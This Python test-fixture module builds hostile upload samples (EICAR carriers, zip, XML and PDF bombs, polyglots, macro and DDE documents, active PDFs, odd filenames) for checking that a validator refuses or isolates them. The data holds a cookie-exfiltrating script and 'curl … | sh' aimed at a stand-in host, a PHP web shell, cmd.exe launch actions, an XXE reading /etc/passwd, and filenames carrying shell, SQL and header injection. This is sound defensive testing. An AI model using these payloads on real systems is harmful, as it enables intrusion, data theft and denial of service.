"""Three hundred hostile files and more, built here, the same each time (but the salts of the
passwords). Nothing in them harms: the virus is EICAR.

A sample says what must become of it: `refused`, `infected` (kept aside), `stored` (an ordinary file under an odd
name), or `either` where a careful reader could do both; nothing is ever served as something that acts.
"""

import base64
import gzip
import io
import struct
import zipfile
import zlib
from dataclasses import dataclass

import pikepdf
from PIL import Image, PngImagePlugin

from scripts.clamd import EICAR
from tests.documents import files

REFUSED, INFECTED, STORED, EITHER = "refused", "infected", "stored", "either"
SCRIPT = b"<script>fetch('https://ailleurs.example/?c='+document.cookie)</script>"
HTML = b"<!doctype html><html><body onload=alert(1)>" + SCRIPT + b"</body></html>"
MEBIBYTE = 1 << 20


@dataclass(frozen=True)
class Sample:
    family: str
    name: str
    content: bytes
    must: str


def samples():
    """Every sample, in an order that never changes."""
    return [*light_samples(), *big_bombs()]


def light_samples():
    makers = (viruses, small_bombs, polyglots, macros, programs, locked, broken, active_pdfs, odd_pictures, odd_names)
    return [sample for maker in makers for sample in maker()]


def one_of_each_kind():
    """The first of each family and what it must become: the short form for the suite."""
    kinds = {}
    for sample in light_samples():
        kinds.setdefault((sample.family, sample.must), sample)
    return list(kinds.values())


# --- viruses ------------------------------------------------------------------------------------------------------


def viruses():
    for name in ("eicar.com", "eicar.txt", "eicar.pdf", "eicar.png", "eicar.jpg", "eicar.docx", "eicar.odt", "e.zip"):
        yield Sample("virus", name, EICAR, REFUSED)
        yield Sample("virus", f"archive-{name}", files.archive({"eicar.com": EICAR}), REFUSED)
    carriers = {
        "commentaire.pdf": files.pdf_bytes() + b"\n%" + EICAR + b"\n",
        "joint.pdf": pdf_with_attachment("eicar.com", EICAR),
        "flux.pdf": pdf_with_stream(EICAR),
        "commentaire.jpg": jpeg_with_comment(EICAR),
        "suite.jpg": files.picture_bytes("JPEG") + EICAR,
        "texte.png": png_with_text(EICAR.decode()),
        "suite.png": files.picture_bytes() + EICAR,
        "image.docx": files.docx({"word/media/image1.png": EICAR}),
        "texte.docx": files.docx(body="<w:t>" + EICAR.decode() + "</w:t>"),
        "style.docx": files.docx({"word/theme/theme1.xml": "<x>" + EICAR.decode() + "</x>"}),
        "tableau.docx": files.docx({"word/embeddings/t.docx": files.docx({"word/media/a.png": EICAR})}),
        "image.odt": files.odf("text", {"Pictures/1.png": EICAR}),
        "image.ods": files.odf("spreadsheet", {"Pictures/1.png": EICAR}),
        "vignette.odt": files.odf("text", {"Pictures/vide.png": b"", "layout-cache": EICAR}),
    }
    for name, content in carriers.items():
        yield Sample("virus", name, content, INFECTED)


def pdf_with(change, **save):
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(files.pdf_bytes())) as pdf:
        change(pdf)
        pdf.save(out, **{"deterministic_id": True, **save})
    return out.getvalue()


def pdf_with_stream(content):
    def change(pdf):
        pdf.pages[0].Contents = pdf.make_stream(content)

    return pdf_with(change, compress_streams=False)


def pdf_with_attachment(name, content):
    def change(pdf):
        pdf.attachments[name] = content

    return pdf_with(change, compress_streams=False)


def jpeg_with_comment(comment):
    whole = files.picture_bytes("JPEG")
    return whole[:2] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + whole[2:]


def png_with_text(text):
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", text)
    return files.picture_bytes(pnginfo=info)


# --- bombs --------------------------------------------------------------------------------------------------------


def small_bombs():
    zeros = bytes(8 * MEBIBYTE)
    yield Sample("bombe", "rires.docx", files.docx({"word/styles.xml": laughs()}), REFUSED)
    yield Sample("bombe", "rires.odt", files.odf("text", {"meta.xml": laughs()}), REFUSED)
    yield Sample("bombe", "poupees.docx", matryoshka(12), REFUSED)
    yield Sample("bombe", "menteur.docx", lying_size(files.docx({"word/media/1.png": zeros})), REFUSED)
    for width, height in ((60000, 60000), (100000, 1000), (2**31 - 1, 2**31 - 1), (1, 2**30), (9000, 9000)):
        yield Sample("bombe", f"{width}x{height}.png", png_claiming(width, height), REFUSED)
    yield Sample("bombe", "65000x65000.jpg", jpeg_claiming(65000, 65000), REFUSED)
    yield Sample("bombe", "20000x20000.jpg", jpeg_claiming(20000, 20000), REFUSED)
    yield Sample("bombe", "texte.png", png_chunk(b"zTXt", b"a\0\0" + zlib.compress(zeros, 9)), EITHER)
    yield Sample("bombe", "profil.png", png_chunk(b"iCCP", b"a\0\0" + zlib.compress(zeros, 9)), EITHER)
    yield Sample("bombe", "42.zip", files.archive({f"l {n}.zip": zlib.compress(zeros, 9) for n in range(16)}), REFUSED)
    yield Sample("bombe", "bombe.gz", gzip.compress(zeros, 9, mtime=0), REFUSED)
    yield Sample("bombe", "bombe.svgz", gzip.compress(zeros, 9, mtime=0), REFUSED)


def big_bombs():
    zeros = bytes(8 * MEBIBYTE)
    many = {f"word/media/{n}.png": zeros for n in range(40)}
    yield Sample("bombe", "bombe.docx", files.docx(many), REFUSED)
    yield Sample("bombe", "bombe.odt", files.odf("text", {f"Pictures/{n}.png": zeros for n in range(40)}), REFUSED)
    yield Sample("bombe", "feuille.docx", files.docx({"word/styles.xml": b" " * (49 * MEBIBYTE)}), REFUSED)
    yield Sample("bombe", "parties.docx", files.docx({f"word/{n}.xml": "" for n in range(4100)}), REFUSED)
    for layers in (1, 2, 3, 5):
        yield Sample("bombe", f"table-{layers}.pdf", flate_bomb(layers, 100), REFUSED)
    for layers in (1, 2, 3):
        yield Sample("bombe", f"page-{layers}.pdf", page_bomb(layers), EITHER)
    yield Sample("bombe", "gros.pdf", b"%PDF-1.7\n" + bytes(20 * MEBIBYTE), REFUSED)


def laughs():
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'<!DOCTYPE x [<!ENTITY l0 "lol">{entities}]><x>&l9;</x>'


def matryoshka(depth):
    content = files.archive({"fin.exe": b"MZ"})
    for _ in range(depth):
        content = files.docx({"word/embeddings/suivant.docx": content})
    return content


def lying_size(content):
    """The directory says ten bytes for a part that unpacks to eight megabytes."""
    real = struct.pack("<I", 8 * MEBIBYTE)
    return content.replace(real, struct.pack("<I", 10))


def flate_bomb(layers, mebibytes):
    table = bytes(mebibytes * MEBIBYTE)
    for _ in range(layers):
        table = zlib.compress(table, 6)
    names = b"/FlateDecode" * layers
    head = b"%PDF-1.5\n1 0 obj\n<</Type/XRef/W[1 4 2]/Size 9000000/Root 1 0 R/Filter[" + names + b"]"
    return head + b"/Length %d>>\nstream\n" % len(table) + table + b"\nendstream\nendobj\nstartxref\n9\n%%EOF\n"


def page_bomb(layers):
    def change(pdf):
        content = b"0 0 m 1 1 l S " * (3 * MEBIBYTE)
        for _ in range(layers):
            content = zlib.compress(content, 6)
        stream = pikepdf.Stream(pdf, content)
        stream.Filter = pikepdf.Array([pikepdf.Name.FlateDecode] * layers)
        pdf.pages[0].Contents = pdf.make_indirect(stream)

    return pdf_with(change, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def chunk(kind, content):
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def png_claiming(width, height):
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + chunk(b"IDAT", zlib.compress(bytes(1000))) + chunk(b"IEND", b"")


def png_chunk(kind, content):
    whole = files.picture_bytes()
    return whole[:33] + chunk(kind, content) + whole[33:]


def jpeg_claiming(width, height):
    whole = bytearray(files.picture_bytes("JPEG"))
    at = whole.index(b"\xff\xc0")
    whole[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(whole)


# --- two things at once -------------------------------------------------------------------------------------------


def polyglots():
    pdf, jpeg, png, docx = files.pdf_bytes(), files.picture_bytes("JPEG"), files.picture_bytes(), files.docx()
    jar = files.archive({"META-INF/MANIFEST.MF": "Main-Class: X", "X.class": b"\xca\xfe\xba\xbe"})
    for name, host in {"a.pdf": pdf, "a.jpg": jpeg, "a.png": png}.items():
        for what, tail in {"html": HTML, "php": b"<?php system($_GET[0]); ?>", "js": b"\n*/=1;alert(1)//"}.items():
            yield Sample("polyglotte", f"{what}-{name}", host + tail, EITHER)
        yield Sample("polyglotte", f"jar-{name}", host + jar, REFUSED)
        yield Sample("polyglotte", f"docx-{name}", host + docx, REFUSED)
    for name, head in {
        "html": HTML, "mz": b"MZ" + bytes(62), "elf": b"\x7fELF" + bytes(60), "gif": b"GIF89a/*", "bmp": b"BM",
        "sh": b"#!/bin/sh\nid\n", "svg": b"<svg onload=alert(1)>", "php": b"<?php ?>", "espace": b" ", "nul": b"\0",
    }.items():  # fmt: skip
        yield Sample("polyglotte", f"{name}-puis.pdf", head + pdf, REFUSED)
        yield Sample("polyglotte", f"{name}-puis.jpg", head + jpeg, REFUSED)
        yield Sample("polyglotte", f"{name}-puis.docx", head + docx, REFUSED)
    for name, host in {"d.docx": docx, "d.odt": files.odf(), "d.xlsx": files.xlsx()}.items():
        yield Sample("polyglotte", f"html-{name}", host + HTML, REFUSED)
        yield Sample("polyglotte", f"commentaire-{name}", zip_with_comment(host, HTML), REFUSED)
    yield Sample("polyglotte", "html.jpg", jpeg_with_comment(HTML), EITHER)
    yield Sample("polyglotte", "html.png", png_with_text(HTML.decode()), EITHER)
    yield Sample("polyglotte", "html.pdf", pdf_with_stream(HTML), EITHER)
    yield Sample("polyglotte", "deux-formats.docx", files.docx({"mimetype": "application/epub+zip"}), REFUSED)


def zip_with_comment(content, comment):
    out = io.BytesIO(content)
    with zipfile.ZipFile(out, "a") as archive:
        archive.comment = comment
    return out.getvalue()


# --- macros and documents that act --------------------------------------------------------------------------------


def macros():
    remote = f'<Relationship Id="r9" Type="{files.OFFICE}/{{}}" Target="{{}}" TargetMode="External"/>'
    enabled = files.DOCX_TYPES.replace("openxmlformats-officedocument.wordprocessingml.document.main", "{}")
    for part in (
        "word/vbaProject.bin", "word/vbaData.xml", "word/activeX/activeX1.xml", "word/embeddings/oleObject1.bin",
        "word/media/run.exe", "word/media/run.js", "word/media/run.vbs", "word/media/page.html", "word/media/p.hta",
        "word/media/a.jar", "word/media/a.dll", "word/media/a.lnk", "word/media/a.scr", "xl/macrosheets/s1.xml",
        "word/embeddings/a.docm", "word/embeddings/a.xls", "..\\..\\a.xml/../x.exe", "/etc/passwd", "../../../x.xml",
    ):  # fmt: skip
        yield Sample("macro", f"{part.rsplit('/', 1)[-1]}.docx", files.docx({part: b"\xd0\xcf\x11\xe0"}), REFUSED)
    for kind in ("ms-word.document.macroEnabled.main", "ms-word.template.macroEnabledTemplate.main"):
        yield Sample("macro", f"{kind}.docx", files.docx(types=enabled.format(kind)), REFUSED)
        yield Sample("macro", f"{kind}.docm", files.docx(types=enabled.format(kind)), REFUSED)
    for kind, target in (
        ("attachedTemplate", "https://ailleurs.example/m.dotm"), ("attachedTemplate", "file://ailleurs/p/m.dotm"),
        ("oleObject", "mhtml:https://ailleurs.example/x.html!x-usc:"), ("image", "\\\\\\\\ailleurs\\\\p\\\\i.png"),
        ("frame", "https://ailleurs.example/"), ("subDocument", "https://ailleurs.example/d.docx"),
    ):  # fmt: skip
        yield Sample("macro", f"distant-{kind}.docx", files.docx(rels=remote.format(kind, target)), REFUSED)
    for field in ("DDEAUTO cmd", "DDE c:\\\\windows\\\\cmd", "dde excel", "DdEaUtO x"):
        yield Sample("macro", f"{field[:3]}.docx", files.docx(body=f"<w:instrText>{field}</w:instrText>"), REFUSED)
        yield Sample("macro", f"{field[:3]}2.docx", files.docx(body=f'<w:fldSimple w:instr="{field}"/>'), REFUSED)
    for part in ("Basic/Standard/Module1.xml", "Scripts/python/a.py", "Object 1", "Pictures/a.exe", "Pictures/a.js"):
        yield Sample("macro", f"{part.rsplit('/', 1)[-1]}.odt", files.odf("text", {part: b"x"}), REFUSED)
        yield Sample("macro", f"{part.rsplit('/', 1)[-1]}.ods", files.odf("spreadsheet", {part: b"x"}), REFUSED)
    for content in (
        '<script:event-listener script:event-name="dom:load"/>', '<office:script script:language="ooo:Basic"/>',
        '<office:dde-source office:dde-application="cmd"/>', '<c table:formula="of:=DDE(&quot;cmd&quot;)"/>',
    ):  # fmt: skip
        yield Sample("macro", f"{content[1:20]}.odt", files.odf("text", content=content), REFUSED)
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1016)
    for name in ("vieux.doc", "vieux.xls", "vieux.ppt", "courriel.msg", "installe.msi", "chiffre.docx", "vieux.pdf"):
        yield Sample("macro", name, ole + name.encode(), REFUSED)
    yield Sample("macro", "objet.rtf", b"{\\rtf1{\\object\\objocx{\\*\\objdata d0cf11e0}}}", REFUSED)


# --- programs and pages -------------------------------------------------------------------------------------------

ACTIVE = {
    "svg": b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>",
    "svg-onload": b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "svg-objet": b'<svg xmlns="http://www.w3.org/2000/svg"><foreignObject>' + HTML + b"</foreignObject></svg>",
    "svg-lien": b'<svg xmlns="http://www.w3.org/2000/svg"><a href="javascript:alert(1)"><text>x</text></a></svg>',
    "svg-doctype": b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>',
    "svg-utf16": '<svg onload="alert(1)"/>'.encode("utf-16"),
    "html": HTML,
    "xhtml": b'<html xmlns="http://www.w3.org/1999/xhtml">' + SCRIPT + b"</html>",
    "html-bom": b"\xef\xbb\xbf" + HTML,
    "html-utf7": b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "mhtml": b"MIME-Version: 1.0\nContent-Type: multipart/related\n\n" + HTML,
    "xml-xslt": b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?><x/>',
    "js": b"alert(document.domain)",
    "php": b"<?php system($_GET['c']); ?>",
    "sh": b"#!/bin/sh\ncurl https://ailleurs.example | sh\n",
    "exe": b"MZ\x90\0" + bytes(200),
    "elf": b"\x7fELF\x02\x01\x01" + bytes(200),
    "class": b"\xca\xfe\xba\xbe\0\0\x004" + bytes(50),
    "jar": files.archive({"META-INF/MANIFEST.MF": "Main-Class: X"}),
    "swf": b"CWS\x09" + bytes(60),
    "hta": b"<hta:application/><script language=vbscript>Run</script>",
    "lnk": b"L\0\0\0\x01\x14\x02\0" + bytes(80),
    "url": b"[InternetShortcut]\nURL=file://ailleurs/x\n",
    "eml": b"Content-Type: text/html\n\n" + HTML,
    "wasm": b"\0asm\1\0\0\0",
    "ps": b"%!PS-Adobe-3.0\n(%pipe%id) (w) file\n",
    "gif": b"GIF89a" + bytes(20) + SCRIPT,
    "csv": b"=cmd|' /C calc'!A0,1\n",
    "tar": b"x.sh\0" + bytes(252) + b"ustar\0" + bytes(249),
}


def programs():
    for kind, content in ACTIVE.items():
        for name in (f"fichier.{kind.split('-')[0]}", f"{kind}.pdf", f"{kind}.png", f"{kind}.pdf.exe"):
            yield Sample("programme", name, content, REFUSED)


# --- passwords ----------------------------------------------------------------------------------------------------


def locked():
    for revision in (2, 3, 4, 6):
        lock = pikepdf.Encryption(user="secret", owner="maître", R=revision, aes=revision > 3, metadata=revision > 3)
        yield Sample("chiffré", f"mot-de-passe-{revision}.pdf", files.pdf_bytes(encryption=lock), REFUSED)
    for name, content in {"c.docx": files.docx(), "c.odt": files.odf(), "c.xlsx": files.xlsx()}.items():
        yield Sample("chiffré", name, with_password_flag(content), REFUSED)
    entry = '<manifest:file-entry><manifest:encryption-data manifest:checksum="x"/></manifest:file-entry>'
    yield Sample("chiffré", "chiffre.odt", files.odf("text", manifest=entry), REFUSED)
    yield Sample("chiffré", "chiffre.ods", files.odf("spreadsheet", manifest=entry), REFUSED)
    yield Sample("chiffré", "cle.pgp", b"-----BEGIN PGP MESSAGE-----\n" + base64.b64encode(bytes(90)), REFUSED)


def with_password_flag(content):
    """Bit 0 of the flags of every entry, in both of its headers."""
    changed = bytearray(content)
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = changed.find(signature)
        while at >= 0:
            changed[at + offset] |= 1
            at = changed.find(signature, at + 4)
    return bytes(changed)


# --- empty, cut, damaged ------------------------------------------------------------------------------------------


def good_files():
    return {
        "a.pdf": files.pdf_bytes(2, "Statuts"), "a.jpg": files.picture_bytes("JPEG", (300, 200)),
        "a.png": files.picture_bytes("PNG", (300, 200)), "a.docx": files.docx(), "a.xlsx": files.xlsx(),
        "a.odt": files.odf(), "a.ods": files.odf("spreadsheet"),
    }  # fmt: skip


def broken():
    for name, content in good_files().items():
        yield Sample("vide", f"vide-{name}", b"", REFUSED)
        yield Sample("vide", f"un-octet-{name}", content[:1], REFUSED)
        yield Sample("vide", f"signature-{name}", content[:8], REFUSED)
        yield Sample("vide", f"zeros-{name}", bytes(2000), REFUSED)
        for percent in (10, 50, 90):
            must = EITHER if name in ("a.jpg", "a.pdf") else REFUSED
            yield Sample("abîmé", f"coupe-{percent}-{name}", content[: len(content) * percent // 100], must)
        yield Sample("abîmé", f"milieu-{name}", scrambled(content), EITHER)
    with pikepdf.new() as pdf:
        out = io.BytesIO()
        pdf.save(out, deterministic_id=True)
    yield Sample("vide", "sans-page.pdf", out.getvalue(), REFUSED)
    yield Sample("vide", "vide.zip", b"PK\x05\x06" + bytes(18), REFUSED)


def scrambled(content):
    """One byte in seven of the second half turned over."""
    changed = bytearray(content)
    for at in range(len(changed) // 2, len(changed) - 30, 7):
        changed[at] ^= 0xFF
    return bytes(changed)


# --- PDF that act, or that tire -----------------------------------------------------------------------------------

JAVASCRIPT = "<</S/JavaScript/JS(app.alert(1);this.submitForm('https://ailleurs.example'))>>"
ACTIONS = {
    "javascript": (JAVASCRIPT, EITHER),
    "lance": ("<</S/Launch/F(calc.exe)>>", REFUSED),
    "lance-win": ("<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>", REFUSED),
    "adresse": ("<</S/URI/URI(javascript:alert(1))>>", EITHER),
    "fichier": ("<</S/URI/URI(file:///etc/passwd)>>", EITHER),
    "ailleurs": ("<</S/GoToR/F(//ailleurs/partage/x.pdf)/D[0/Fit]>>", EITHER),
    "formulaire": ("<</S/SubmitForm/F(https://ailleurs.example)/Flags 4>>", EITHER),
    "import": ("<</S/ImportData/F(//ailleurs/x.fdf)>>", EITHER),
}


def active_pdfs():
    for name, (action, must) in ACTIONS.items():
        parsed = pikepdf.Object.parse(action.encode())

        def opening(pdf, parsed=parsed):
            pdf.Root.OpenAction = pdf.copy_foreign(parsed) if parsed.is_indirect else parsed

        def link(pdf, parsed=parsed):
            box = pikepdf.Array([0, 0, 500, 500])
            note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=box, A=parsed)
            pdf.pages[0].Annots = pikepdf.Array([pdf.make_indirect(note)])

        yield Sample("pdf actif", f"{name}-ouverture.pdf", pdf_with(opening), must)
        yield Sample("pdf actif", f"{name}-lien.pdf", pdf_with(link), must)
    yield Sample("pdf actif", "programme-joint.pdf", pdf_with_attachment("facture.exe", b"MZ" + bytes(90)), EITHER)
    yield Sample("pdf actif", "page-jointe.pdf", pdf_with_attachment("page.html", HTML), EITHER)
    for name, box in {
        "geant": (0, 0, 10**7, 10**7), "long": (0, 0, 1, 10**6), "nul": (0, 0, 0, 0), "negatif": (9, 9, -9, -9),
        "infime": (0, 0, 0.0001, 0.0001),
    }.items():  # fmt: skip

        def resize(pdf, box=box):
            pdf.pages[0].MediaBox = pikepdf.Array(box)

        yield Sample("pdf actif", f"{name}.pdf", pdf_with(resize), EITHER)
    head = b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
    loop = b"2 0 obj<</Type/Pages/Kids[2 0 R]/Count 1>>endobj\n"
    trailer = b"trailer<</Root 1 0 R/Size 4>>\n%%EOF\n"
    yield Sample("pdf actif", "boucle.pdf", head + loop + trailer, REFUSED)
    yield Sample("pdf actif", "profond.pdf", head + b"2 0 obj" + b"[" * 20000 + trailer, REFUSED)
    yield Sample("pdf actif", "compte.pdf", head + loop.replace(b"[2 0 R]/Count 1", b"[]/Count 9999999"), REFUSED)


# --- pictures -----------------------------------------------------------------------------------------------------


def odd_pictures():
    for kind in ("GIF", "BMP", "TIFF", "WEBP", "ICO", "PPM", "TGA"):
        for name in (f"image.{kind.lower()}", f"image-{kind.lower()}.png"):
            yield Sample("image", name, files.picture_bytes(kind, (32, 32)), REFUSED)
    for mode in ("1", "L", "P", "RGBA", "I;16"):
        out = io.BytesIO()
        Image.new(mode, (30, 20)).save(out, "PNG")
        yield Sample("image", f"mode-{mode[0]}{len(mode)}.png", out.getvalue() + SCRIPT, EITHER)
    exif = Image.Exif()
    exif[0x010E] = HTML.decode()
    yield Sample("image", "exif.jpg", files.picture_bytes("JPEG", exif=exif.tobytes()), EITHER)


# --- odd names of an ordinary file --------------------------------------------------------------------------------

NAMES = (
    "../../../../etc/passwd", "..\\..\\windows\\system32\\x.pdf", "/etc/shadow.pdf", "C:\\x.pdf",
    "\\\\ailleurs\\p.pdf", "a\0b.pdf", "a\r\nSet-Cookie: x=1.pdf",
    "a\r\nContent-Type: text/html\r\n\r\n<script>.pdf", "a\nb.pdf", "\u001b[2J.pdf", "facture\u202efdp.exe",
    "\u2066x\u2069.pdf", "\u200bvide\u200b.pdf", "\ufeffbom.pdf", "á́́.pdf",
    '"><script>alert(1)</script>.pdf', "<img src=x onerror=alert(1)>.png", "{{7*7}}.pdf", "${7*7}.pdf",
    "%3Cscript%3E.pdf", "'; DROP TABLE documents_storedfile; --.pdf", "$(id).pdf", "`id`.pdf", "|id.pdf",
    "-rf.pdf", "--output=x.pdf", ".htaccess", ".htaccess.pdf", "...", " ", "", "x" * 300 + ".pdf", "é" * 200,
    "x." + "y" * 200, "CON", "NUL.pdf", "COM1.pdf", "a.pdf.", "a.pdf ", "a.html", "a.svg", "a.php",
    "a.pdf;.html", "a.html;filename=b.pdf", 'a".html', "a.exe", "🙂.pdf", "文件.pdf", "ملف.pdf",
    "l’été à Thiers.pdf", "a%00.html", "a?b=c#d.pdf", "web.config", "index.html", "a:b.pdf", "a.pdf::$DATA",
    "~/.ssh/authorized_keys", "file:///etc/passwd",
)  # fmt: skip


def odd_names():
    for name in NAMES:
        # A browser that names nothing sends nothing.
        yield Sample("nom", name, files.pdf_bytes(1, "Nom"), STORED if name else REFUSED)
